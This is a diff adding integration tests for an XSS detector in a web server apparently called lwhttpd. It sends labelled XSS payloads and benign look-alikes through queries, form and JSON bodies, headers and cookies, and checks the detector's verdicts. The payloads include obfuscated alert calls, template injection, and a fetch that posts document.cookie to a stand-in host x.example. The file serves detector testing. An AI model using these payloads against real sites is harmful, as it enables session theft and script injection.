@@ -5,7 +5,13 @@ xss.words, flag XSS wherever the rules say and leave look-alikes alone.
 Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
       /usr/bin/python3 -m pytest -q test/integration -k detect_xss
 """
+import json
+import time
+import urllib.parse
+
 import lwhttpd
+from lwhttpd import is_attack
+from test_body import FORM, JSON, with_cgi
 
 DETECTOR_RULES = (200900, 200910)
 
@@ -73,4 +79,97 @@ BENIGN = [
 def test_detect_xss_live(httpd_factory, tmp_path):
     h = httpd_factory(signatures=[detector_only(str(tmp_path))])
     for rec in lwhttpd.check_detector_live(h, ATTACKS, BENIGN):
+        assert rec["severity"] == "high" and "xss" in rec["categories"]
+
+
+# Classes of other authors' payloads (test/eval/written/xss-dev.txt), each
+# with the detector's reason, sent in every place an attacker puts a value:
+# the query, a form body, a JSON body, a header of the client's own and a
+# cookie. The benign look-alikes go to the same places and stay clean.
+CLASSES = [
+    ('" autofocus onfocus="alert(document.domain)', "html:onfocus"),
+    ("';alert(1)//", "js:call alert"),
+    ("${alert(document.cookie)}", "js:"),
+    ("{{constructor.constructor('alert(1)')()}}", "js:"),
+    ("onerror=alert;throw 1", "html:onerror="),
+    ("Reflect.apply(alert,0,[1])", "js:"),
+    ("self[/al/.source+/ert/.source](1)", "js:"),
+    ("top['al\\x65rt'](1)", "js:"),
+    ("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+     "url:javascript"),
+    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+     "html:<img"),
+    ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "html:utf-7"),
+    ("fetch('//x.example',{method:'POST',body:document.cookie})", "js:"),
+    ("$.getScript('//x.example/x.js')", "js:call getscript"),
+    ("jQuery.globalEval('alert(1)')", "js:call globaleval"),
+]
+
+LOOKALIKES = [
+    "fetch('/api/items').then(r => r.json())",
+    "$.getScript('plugin.js') returns undefined",
+    "how to use onclick in react",
+    "document.getElementById('x')",
+    "{{ user.email }}",
+    "a<b && c>d",
+    "<john@example.com>",
+    "window.location.href vs window.location.replace",
+]
+
+
+def _placed(h, n, value):
+    """Send value in place n % 5 as request n; (marker, field prefix)."""
+    m = "xp=%d" % n
+    place = n % 5
+    if place == 0:
+        h.get("/cgi/echo?%s&q=%s" % (m, urllib.parse.quote(value, safe="")))
+        return m, "args:q"
+    if place == 1:
+        body = ("q=" + urllib.parse.quote(value, safe="")).encode()
+        st, _ = h.post("/cgi/echo?" + m, body, FORM)
+        assert st == 200
+        return m, "body:form:q"
+    if place == 2:
+        st, _ = h.post("/cgi/echo?" + m, json.dumps({"q": value}).encode(),
+                       JSON)
+        assert st == 200
+        return m, "body:json:$.q"
+    if place == 3:
+        h.get("/cgi/echo?" + m, headers=[("X-Search", value)])
+        return m, "header:X-Search"
+    h.get("/cgi/echo?" + m,
+          headers=[("Cookie", "sid=1; q=" + urllib.parse.quote(value,
+                                                               safe=""))])
+    return m, "cookie"
+
+
+def test_detect_xss_places(httpd_factory, tmp_path):
+    h = httpd_factory(start=False, signatures=[detector_only(str(tmp_path))])
+    with_cgi(h)
+    h.start()
+    n = 0
+    benign = []
+    for v in LOOKALIKES:
+        for _ in range(5):
+            benign.append(_placed(h, n, v)[0])
+            n += 1
+    sent = []
+    for v, why in CLASSES:
+        for _ in range(5):
+            sent.append((_placed(h, n, v), v, why))
+            n += 1
+    h.wait_records(len(sent), pred=is_attack)
+    time.sleep(0.3)
+    recs = [r for r in h.records() if is_attack(r)]
+    for r in recs:
+        q = r["uri"].split("?", 1)[1]
+        assert q.split("&")[0] not in benign, ("look-alike flagged", r)
+    by = {r["uri"].split("?", 1)[1].split("&")[0]: r for r in recs}
+    for (m, field), v, why in sent:
+        rec = by.get(m)
+        assert rec is not None, ("not flagged", field, v)
+        hits = [x for x in rec["rules"] if x["id"] in DETECTOR_RULES
+                and x["field"].startswith(field)]
+        assert hits, (field, v, rec["rules"])
+        assert hits[0]["detail"].startswith(why), (field, v, hits[0])
         assert rec["severity"] == "high" and "xss" in rec["categories"]
